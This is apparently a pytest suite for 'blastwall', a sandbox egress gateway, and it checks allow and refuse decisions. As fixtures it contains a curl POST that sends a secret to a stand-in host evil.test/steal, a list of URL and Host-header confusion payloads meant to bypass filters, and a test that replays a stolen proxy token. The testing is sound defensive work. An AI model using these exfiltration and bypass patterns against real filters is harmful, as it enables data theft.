"""The egress gateway with real clients, a real mitmproxy and real upstreams on loopback.

Upstream servers listen on the host's 127.0.0.1; sandboxes reach them only
through the gateway, by names pinned with ``network.resolve`` and allowed by
``trusted_addresses``.  Every refusal is checked on the host too: the upstream
must have received nothing.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import time

import pytest

from blastwall.egress.client import call
from tests.conftest import BASE, SECRET, blastwall, bw_env, gateway_pid, kill_gateway, needs_bwrap
from tests.egress.upstreams import Echo, Upstream

pytestmark = [needs_bwrap, pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")]


@pytest.fixture
def upstream(scratch):
    up = Upstream(str(scratch))
    yield up
    up.close()


def policy(scratch, allow=("api.test", "other.test"), extra="", trusted=True):
    path = scratch / "policy.toml"
    names = ", ".join(f'"{n}" = "127.0.0.1"' for n in ("api.test", "other.test", "evil.test", "private.test"))
    text = f"[network]\nallow = {json.dumps(list(allow))}\nresolve = {{ {names} }}\n"
    if trusted:
        text += 'trusted_addresses = ["127.0.0.1/32"]\n'
    path.write_text(text + extra)
    return path


def run(args, *, home, workspace, gw_state, env=None, timeout=120, input=None):
    merged = {"XDG_STATE_HOME": str(gw_state), "BLASTWALL_GATEWAY_IDLE": "60"}
    merged.update(env or {})
    return blastwall(args, home=home, cwd=workspace, env=merged, timeout=timeout, input=input)


def test_curl_http_allowed_and_refused(home, workspace, scratch, upstream, gw_state):
    pol = policy(scratch)
    r = run(["run", "--policy", str(pol), "--", "sh", "-c",
             f"curl -sS -w ' %{{http_code}}\\n' http://api.test:{upstream.http_port}/hello;"
             f"curl -sS -w ' %{{http_code}}\\n' -X POST -d '{SECRET}' http://evil.test:{upstream.http_port}/steal"],
            home=home, workspace=workspace, gw_state=gw_state)
    assert "hello from upstream\n 200" in r.stdout, r.stdout + r.stderr
    assert "refused POST evil.test" in r.stdout and "403" in r.stdout
    assert "--allow-domain" in r.stdout  # The refusal says how to allow it.
    assert [req[1] for req in upstream.requests] == ["/hello"]  # Nothing of the refused request arrived.
    assert "blastwall: blocked 1 network request(s): evil.test" in r.stderr


def test_curl_https_connect_and_socks(home, workspace, scratch, upstream, gw_state):
    pol = policy(scratch)
    shutil.copy(upstream.ca, workspace / "ca.pem")
    port = upstream.https_port
    r = run(["run", "--policy", str(pol), "--", "sh", "-c",
             f"curl -sS --cacert ca.pem https://api.test:{port}/hello;"
             f"curl -sS --cacert ca.pem -x \"$ALL_PROXY\" https://other.test:{port}/hello;"
             f"curl -sS --cacert ca.pem https://evil.test:{port}/hello; echo rc=$?"],
            home=home, workspace=workspace, gw_state=gw_state)
    assert r.stdout.count("hello from upstream") == 2, r.stdout + r.stderr
    assert "rc=56" in r.stdout  # CONNECT refused (403)
    assert len(upstream.requests) == 2


def test_python_urllib_and_requests(home, workspace, scratch, upstream, gw_state):
    pol = policy(scratch)
    shutil.copy(upstream.ca, workspace / "ca.pem")
    script = (
        "import urllib.request, ssl, requests\n"
        f"print(urllib.request.urlopen('http://api.test:{upstream.http_port}/hello').read().decode().strip())\n"
        f"ctx = ssl.create_default_context(cafile='ca.pem')\n"
        f"print(urllib.request.urlopen('https://api.test:{upstream.https_port}/hello', context=ctx).status)\n"
        f"print(requests.get('https://other.test:{upstream.https_port}/hello', verify='ca.pem').status_code)\n"
        "try:\n"
        f"    requests.get('https://evil.test:{upstream.https_port}/hello', verify='ca.pem')\n"
        "except requests.exceptions.ProxyError:\n    print('refused')\n")
    r = run(["run", "--policy", str(pol), "--", sys.executable, "-c", script], home=home, workspace=workspace,
            gw_state=gw_state)
    assert r.stdout.split() == ["hello", "from", "upstream", "200", "200", "refused"], r.stdout + r.stderr


def _serve_wheel(index, text: str = "") -> None:
    """A one-package PEP 503 index under ``index``/simple: demo-pkg 1.0."""
    import zipfile

    (index / "simple" / "demo-pkg").mkdir(parents=True)
    wheel = index / "simple" / "demo-pkg" / "demo_pkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as z:
        z.writestr("demo_pkg/__init__.py", text)
        z.writestr("demo_pkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0\n")
        z.writestr("demo_pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\n"
                                                   "Tag: py3-none-any\n")
        z.writestr("demo_pkg-1.0.dist-info/RECORD", "")
    (index / "simple" / "demo-pkg" / "index.html").write_text(
        '<html><body><a href="demo_pkg-1.0-py3-none-any.whl">demo_pkg-1.0-py3-none-any.whl</a></body></html>')


def _serve_repo(scratch, served, text: str) -> None:
    """A bare repository at ``served``/repo.git, served by dumb HTTP, whose file.txt holds ``text``."""
    src = scratch / "src"
    subprocess.run(["git", "init", "-q", str(src)], check=True)
    (src / "file.txt").write_text(text)
    subprocess.run(["git", "-C", str(src), "add", "."], check=True)
    subprocess.run(["git", "-C", str(src), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "x"],
                   check=True)
    subprocess.run(["git", "clone", "-q", "--bare", str(src), str(served / "repo.git")], check=True)
    subprocess.run(["git", "-C", str(served / "repo.git"), "update-server-info"], check=True)


def test_git_clone_over_https(home, workspace, scratch, gw_state):
    served = scratch / "served"
    served.mkdir()
    _serve_repo(scratch, served, "cloned through the gateway\n")
    up = Upstream(str(scratch), root=str(served))
    try:
        shutil.copy(up.ca, workspace / "ca.pem")
        r = run(["run", "--policy", str(policy(scratch)), "--", "git", "-c", "http.sslCAInfo=ca.pem", "clone", "-q",
                 f"https://api.test:{up.https_port}/repo.git", "out"], home=home, workspace=workspace, gw_state=gw_state)
        assert r.returncode == 0, r.stderr
        assert (workspace / "out" / "file.txt").read_text() == "cloned through the gateway\n"
    finally:
        up.close()


def test_pip_download_through_gateway(home, workspace, scratch, gw_state):
    index = scratch / "index"
    _serve_wheel(index)
    up = Upstream(str(scratch), root=str(index))
    try:
        shutil.copy(up.ca, workspace / "ca.pem")
        r = run(["run", "--policy", str(policy(scratch)), "--", sys.executable, "-m", "pip", "download", "-q",
                 "--no-deps", "--disable-pip-version-check", "--cert", "ca.pem", "--no-cache-dir",
                 "--index-url", f"https://api.test:{up.https_port}/simple/", "demo-pkg", "-d", "dl"],
                home=home, workspace=workspace, gw_state=gw_state)
        assert r.returncode == 0, r.stdout + r.stderr
        assert (workspace / "dl" / "demo_pkg-1.0-py3-none-any.whl").exists()
    finally:
        up.close()


def test_everyday_clients_through_interception(home, workspace, scratch, gw_state):
    """A session with grants decrypts every host: pip, git, requests, httpx and urllib must work, trusting the
    gateway's CA through the variables the sandbox gets (no --cert, no sslCAInfo)."""
    served = scratch / "served"
    _serve_wheel(served)
    _serve_repo(scratch, served, "cloned through interception\n")
    up = Upstream(str(scratch), root=str(served))
    try:
        grants = policy(scratch, extra=f'upstream_ca = "{up.ca}"\n[[network.rules]]\nhost = "other.test"\n'
                                       'paths = ["/**"]\n')
        base = f"https://api.test:{up.https_port}"
        script = (f"{sys.executable} -m pip download -q --no-deps --disable-pip-version-check --no-cache-dir "
                  f"--index-url {base}/simple/ demo-pkg -d dl && git clone -q {base}/repo.git out && "
                  f"{sys.executable} -c \"import requests, httpx, urllib.request; "
                  f"u = '{base}/simple/demo-pkg/index.html'; "
                  "print(requests.get(u).status_code, httpx.get(u).status_code, urllib.request.urlopen(u).status)\"")
        r = run(["run", "--policy", str(grants), "--", "sh", "-c", script], home=home, workspace=workspace,
                gw_state=gw_state)
        assert r.returncode == 0, r.stdout + r.stderr
        assert (workspace / "dl" / "demo_pkg-1.0-py3-none-any.whl").exists()
        assert (workspace / "out" / "file.txt").read_text() == "cloned through interception\n"
        assert r.stdout.split() == ["200", "200", "200"], r.stdout
    finally:
        up.close()


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_node_fetch(home, workspace, scratch, upstream, gw_state):
    major = int(subprocess.run(["node", "-p", "process.versions.node.split('.')[0]"], capture_output=True,
                               text=True).stdout.strip() or 0)
    script = (f"fetch('http://api.test:{upstream.http_port}/hello').then(r => r.text()).then(t => console.log(t.trim()),"
              " e => console.log('failed', e.cause && e.cause.code))")
    r = run(["run", "--policy", str(policy(scratch)), "--", "node", "-e", script], home=home, workspace=workspace,
            gw_state=gw_state)
    if major >= 24:
        assert "hello from upstream" in r.stdout, r.stdout + r.stderr
    else:
        # Before Node 24, fetch ignores proxy variables: it must fail, not go direct.
        assert "failed" in r.stdout, r.stdout + r.stderr
        assert upstream.requests == []


REFUSALS = [
    # (URL, extra curl args, reason expected in the body or summary)
    ("http://github.com.evil.test:{port}/", [], "not-allowed"),
    ("http://evilapi.test:{port}/", [], "not-allowed"),
    ("http://x.api.test:{port}/", [], "not-allowed"),  # no wildcard granted
    ("http://api.test@evil.test:{port}/", [], "not-allowed"),  # user@host confusion
    ("http://127.0.0.1:{port}/", ["--noproxy", ""], "not-allowed"),  # IP literals only when listed
    ("http://2130706433:{port}/", ["--noproxy", ""], "not-allowed"),
    ("http://0x7f.1:{port}/", ["--noproxy", ""], ""),
    ("http://[::ffff:127.0.0.1]:{port}/", ["--noproxy", ""], "not-allowed"),
    ("http://api.test:{port}/", ["-H", "Host: evil.test"], "host-mismatch"),
    ("http://api.test:{port}/", ["--proxytunnel", "-H", "Host: evil.test"], "host-mismatch"),  # inside CONNECT
]


@pytest.mark.parametrize("url,args,reason", REFUSALS)
def test_refusals_reach_nothing(home, workspace, scratch, upstream, gw_state, url, args, reason):
    target = url.format(port=upstream.http_port)
    r = run(["run", "--policy", str(policy(scratch)), "--", "curl", "-sS", "--max-time", "10", *args, target],
            home=home, workspace=workspace, gw_state=gw_state)
    assert "hello from upstream" not in r.stdout
    assert upstream.requests == [], upstream.requests
    assert reason in r.stdout + r.stderr


def test_name_resolving_to_private_address_is_refused(home, workspace, scratch, upstream, gw_state):
    pol = policy(scratch, allow=("private.test",), trusted=False)
    r = run(["run", "--policy", str(pol), "--", "curl", "-sS", f"http://private.test:{upstream.http_port}/hello"],
            home=home, workspace=workspace, gw_state=gw_state)
    assert "hello" not in r.stdout and upstream.requests == []
    assert "forbidden-address" in r.stderr and "loopback" in r.stderr


def test_session_token_is_required_and_bound_to_its_session(home, workspace, scratch, upstream, gw_state):
    pol = policy(scratch)
    port = upstream.http_port
    r = run(["run", "--policy", str(pol), "--", "sh", "-c",
             f"curl -sS -o /dev/null -w '%{{http_code}}\\n' -x http://127.0.0.1:3128 http://api.test:{port}/hello;"
             f"curl -sS -o /dev/null -w '%{{http_code}}\\n' -x http://blastwall:wrong@127.0.0.1:3128 "
             f"http://api.test:{port}/hello; echo $HTTP_PROXY"],
            home=home, workspace=workspace, gw_state=gw_state)
    lines = r.stdout.split()
    assert lines[:2] == ["407", "407"], r.stdout + r.stderr
    stolen = lines[2]  # Another session's proxy URL, token included.
    r = run(["run", "--policy", str(pol), "--", "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-x", stolen,
             f"http://api.test:{port}/hello"], home=home, workspace=workspace, gw_state=gw_state)
    assert r.stdout == "407", r.stdout + r.stderr
    assert upstream.requests == []


def test_direct_connection_to_gateway_port_has_no_session(gw_state, home, workspace, scratch, upstream):
    # A host process that finds mitmproxy's listener gets nowhere without a session socket.
    run(["run", "--policy", str(policy(scratch)), "--", "true"], home=home, workspace=workspace, gw_state=gw_state)
    log = (gw_state / "blastwall" / "gateway" / "gateway.log")
    import re

    ports = set()
    for line in subprocess.run(["ss", "-ltnp"], capture_output=True, text=True).stdout.splitlines():
        if f"pid={gateway_pid(gw_state)}," in line:
            m = re.search(r"127\.0\.0\.1:(\d+)", line)
            if m:
                ports.add(int(m.group(1)))
    assert ports, log.read_text() if log.exists() else "no gateway log"
    for port in ports:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
            s.sendall(f"GET http://api.test:{upstream.http_port}/hello HTTP/1.1\r\nHost: api.test\r\n\r\n".encode())
            s.settimeout(5)
            try:
                reply = s.recv(4096)
            except (TimeoutError, ConnectionError):
                reply = b""
        assert b"hello from upstream" not in reply
    assert upstream.requests == []


def test_500_concurrent_tunnels(home, workspace, scratch, gw_state):
    echo = Echo()
    try:
        pol = policy(scratch, allow=("api.test",))
        script = f"""
import asyncio, base64, os
token = os.environ["HTTP_PROXY"].split("//", 1)[1].split("@", 1)[0]
auth = base64.b64encode(token.encode()).decode()
async def tunnel(i):
    r, w = await asyncio.open_connection("127.0.0.1", 3128)
    w.write(f"CONNECT api.test:{echo.port} HTTP/1.1\\r\\nHost: api.test:{echo.port}\\r\\nProxy-Authorization: Basic {{auth}}\\r\\n\\r\\n".encode())
    head = await r.readuntil(b"\\r\\n\\r\\n")
    assert b" 200 " in head.split(b"\\r\\n")[0], head
    msg = b"\\x00\\x01" + f"ping {{i}}".encode()  # Binary: plainly not HTTP or TLS.
    w.write(msg)
    got = await r.readexactly(len(msg))
    w.close()
    return got == msg
async def main():
    results = await asyncio.gather(*(tunnel(i) for i in range(500)), return_exceptions=True)
    ok = sum(1 for x in results if x is True)
    errors = [repr(x) for x in results if x is not True][:3]
    print(ok, errors)
asyncio.run(main())
"""
        r = run(["run", "--policy", str(pol), "--", sys.executable, "-c", script], home=home, workspace=workspace,
                gw_state=gw_state, timeout=300)
        assert r.stdout.startswith("500 []"), r.stdout + r.stderr
        assert echo.connections == 500
    finally:
        echo.close()


def test_gateway_killed_mid_session_cuts_the_network(home, workspace, scratch, upstream):
    state = BASE / f"gateway-kill-{os.getpid()}"
    state.mkdir(parents=True, exist_ok=True)
    try:
        port = upstream.http_port
        proc = subprocess.Popen(
            [sys.executable, "-m", "blastwall", "run", "--policy", str(policy(scratch)), "--", "sh", "-c",
             f"curl -sS http://api.test:{port}/hello; touch first-done; sleep 3; "
             f"curl -sS --max-time 5 http://api.test:{port}/hello; echo second=$?"],
            cwd=workspace, env=bw_env(home, {"XDG_STATE_HOME": str(state)}), stdout=subprocess.PIPE,
            stderr=subprocess.PIPE, text=True)
        deadline = time.monotonic() + 60
        while not (workspace / "first-done").exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        kill_gateway(state)
        out, err = proc.communicate(timeout=60)
        assert out.count("hello from upstream") == 1, out + err
        assert "second=0" not in out
        assert len(upstream.requests) == 1
        assert "gateway stopped" in err
    finally:
        kill_gateway(state)
        shutil.rmtree(state, ignore_errors=True)


def test_fault_in_decision_code_refuses(home, workspace, scratch, upstream):
    state = BASE / f"gateway-fault-{os.getpid()}"
    state.mkdir(parents=True, exist_ok=True)
    env = {"XDG_STATE_HOME": str(state), "BLASTWALL_GATEWAY_TEST_FAULTS": "1"}
    try:
        pol = policy(scratch)
        r = blastwall(["run", "--policy", str(pol), "--", "curl", "-sS", f"http://api.test:{upstream.http_port}/hello"],
                      home=home, cwd=workspace, env=env)
        assert "hello from upstream" in r.stdout  # The control: before the fault, allowed.
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(str(state / "blastwall" / "gateway" / "control.sock"))
            assert call(s, "fault", []) == {"fault": ["1"]}
        shutil.copy(upstream.ca, workspace / "ca.pem")
        r = blastwall(["run", "--policy", str(pol), "--", "sh", "-c",
                       f"curl -sS http://api.test:{upstream.http_port}/hello; "
                       f"curl -sS --cacert ca.pem https://api.test:{upstream.https_port}/hello; "
                       f"curl -sS -x \"$ALL_PROXY\" http://api.test:{upstream.http_port}/hello"],
                      home=home, cwd=workspace, env=env)
        assert "hello from upstream" not in r.stdout, r.stdout
        assert len(upstream.requests) == 1
    finally:
        kill_gateway(state)
        shutil.rmtree(state, ignore_errors=True)


def test_audit_records_decisions_and_verifies(home, workspace, scratch, upstream, gw_state):
    run(["run", "--policy", str(policy(scratch)), "--", "sh", "-c",
         f"curl -s http://api.test:{upstream.http_port}/hello; curl -s http://evil.test:{upstream.http_port}/"],
        home=home, workspace=workspace, gw_state=gw_state)
    r = run(["audit", "tail", "-n", "50", "--json"], home=home, workspace=workspace, gw_state=gw_state)
    rows = [json.loads(line) for line in r.stdout.splitlines()]
    assert any(row["host"] == "api.test" and row["decision"] == "allow" for row in rows)
    assert any(row["host"] == "evil.test" and row["decision"] == "deny" and row["reason"] == "not-allowed"
               for row in rows)
    r = run(["audit", "verify"], home=home, workspace=workspace, gw_state=gw_state)
    assert r.returncode == 0 and "chain intact" in r.stdout


def test_no_allow_list_means_no_gateway_and_no_network(home, workspace, scratch, upstream):
    state = BASE / f"gateway-none-{os.getpid()}"
    try:
        r = blastwall(["run", "--", "sh", "-c", f"echo ${{HTTP_PROXY:-none}}; curl -sS http://api.test:{upstream.http_port}/"],
                      home=home, cwd=workspace, env={"XDG_STATE_HOME": str(state)})
        assert r.stdout.startswith("none")
        assert not (state / "blastwall" / "gateway").exists()
        assert upstream.requests == []
    finally:
        shutil.rmtree(state, ignore_errors=True)


def test_refusals_carry_a_machine_readable_reason(home, workspace, scratch, upstream, gw_state):
    """A program inside learns why, from a header and a JSON body, on plain HTTP and on a CONNECT tunnel."""
    shutil.copy(upstream.ca, workspace / "ca.pem")
    script = (
        "import json, http.client, os, urllib.parse, urllib.request\n"
        f"print(urllib.request.urlopen('http://api.test:{upstream.http_port}/hello').status)\n"  # positive control
        "try:\n"
        f"    urllib.request.urlopen('http://evil.test:{upstream.http_port}/steal')\n"
        "except urllib.error.HTTPError as e:\n"
        "    body = json.loads(e.read())\n"
        "    print(e.code, e.headers['X-Blastwall-Reason'], body['error']['reason'], body['error']['target'])\n"
        "    print(e.headers['Proxy-Status'])\n"
        "proxy = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])\n"
        "conn = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=10)\n"
        "auth = urllib.request.base64.b64encode(f'{proxy.username}:{proxy.password}'.encode()).decode()\n"
        f"conn.request('CONNECT', 'evil.test:{upstream.https_port}', headers={{'Proxy-Authorization': 'Basic ' + auth}})\n"
        "r = conn.getresponse()\n"
        "print(r.status, r.getheader('X-Blastwall-Reason'), json.loads(r.read())['error']['code'])\n")
    r = run(["run", "--policy", str(policy(scratch)), "--", sys.executable, "-c", script], home=home,
            workspace=workspace, gw_state=gw_state)
    lines = r.stdout.splitlines()
    assert lines[0] == "200", r.stdout + r.stderr
    assert lines[1] == f"403 not-allowed not-allowed GET evil.test:{upstream.http_port}", r.stdout + r.stderr
    assert lines[2] == 'blastwall; error=http_request_denied; details="not-allowed"'
    assert lines[3] == "403 not-allowed egress_refused", r.stdout + r.stderr
    assert [req for req in upstream.requests if "steal" in str(req)] == []
